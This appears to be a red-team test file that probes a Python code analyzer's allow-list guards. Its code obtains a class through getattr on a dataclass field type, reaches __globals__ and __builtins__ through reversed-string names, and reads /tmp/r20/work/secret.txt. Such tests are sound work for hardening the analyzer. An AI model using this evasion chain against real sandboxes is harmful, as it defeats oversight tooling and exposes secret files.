# family: red team, round 20 (classes reaching parameters unnoticed; allow-list guards)
# Chain: the class channel Field.type is noted (attributes._notable -> ctx.class_channels) only for a written
# `x.type`; getattr(f, "type") goes through dynamic_names._constant_name and is not noted. So
# fields(Slot())[0] read with getattr hands out the class Reader unnoticed; own_object keeps trusting self in
# Reader.fetch, and k.fetch(box, fn) runs with a namedtuple whose FIELDS is a run-time ["__globals__"].
from collections import namedtuple
from dataclasses import dataclass, fields


class Reader:
    FIELDS = ("name",)

    def fetch(self, fn):
        out = []
        for key in self.FIELDS:
            out.append(getattr(fn, key))
        return out


@dataclass
class Slot:
    r: Reader = None


Box = namedtuple("Box", "FIELDS")


def call_read(k, obj, fn):
    return k.fetch(obj, fn)


def helper():
    return 1


def run():
    k = getattr(fields(Slot())[0], "type")
    box = Box(["".join(reversed("__slabolg__"))])
    got = call_read(k, box, helper)[0]
    print(sorted(got.keys())[:8])
    b = got["".join(reversed("__snitliub__"))]
    print(b)
    print(getattr(b, "open")("/tmp/r20/work/secret.txt").read())


run()
